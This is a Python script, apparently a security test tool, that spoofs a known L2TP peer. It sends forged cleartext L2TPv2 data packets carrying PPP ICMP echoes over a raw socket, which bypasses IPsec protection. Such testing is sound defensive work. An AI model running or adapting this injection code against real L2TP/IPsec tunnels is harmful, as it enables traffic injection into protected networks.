#!/usr/bin/env python3
"""Sends plain (non-ESP) L2TPv2 data packets carrying a PPP IPv4 ICMP echo, as a spoofer
who knows a protected peer's address, UDP port, tunnel and session ids would.

  forge_l2tp_data.py SRC SPORT DST DPORT TUNNEL SESSION INNER_SRC INNER_DST COUNT

A raw IPPROTO_RAW socket writes the IP header itself: the sender's own IPsec policies
(which select UDP/1701) do not see a UDP flow and leave the packet in clear."""
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload, ident):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def main():
    src, sport, dst, dport, tunnel, session, isrc, idst, count = sys.argv[1:10]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(int(count)):
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x4242, i) + b"forged-plain-l2tp"
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        inner = ipv4(isrc, idst, socket.IPPROTO_ICMP, icmp, 0x1000 + i)
        # L2TPv2 data: T=0, no length, no sequence; version 2. PPP: FF 03, protocol IPv4.
        l2tp = struct.pack("!HHH", 0x0002, int(tunnel), int(session)) + b"\xff\x03\x00\x21" + inner
        udp = struct.pack("!HHHH", int(sport), int(dport), 8 + len(l2tp), 0) + l2tp  # no checksum
        s.sendto(ipv4(src, dst, socket.IPPROTO_UDP, udp, 0x2000 + i), (dst, 0))


main()
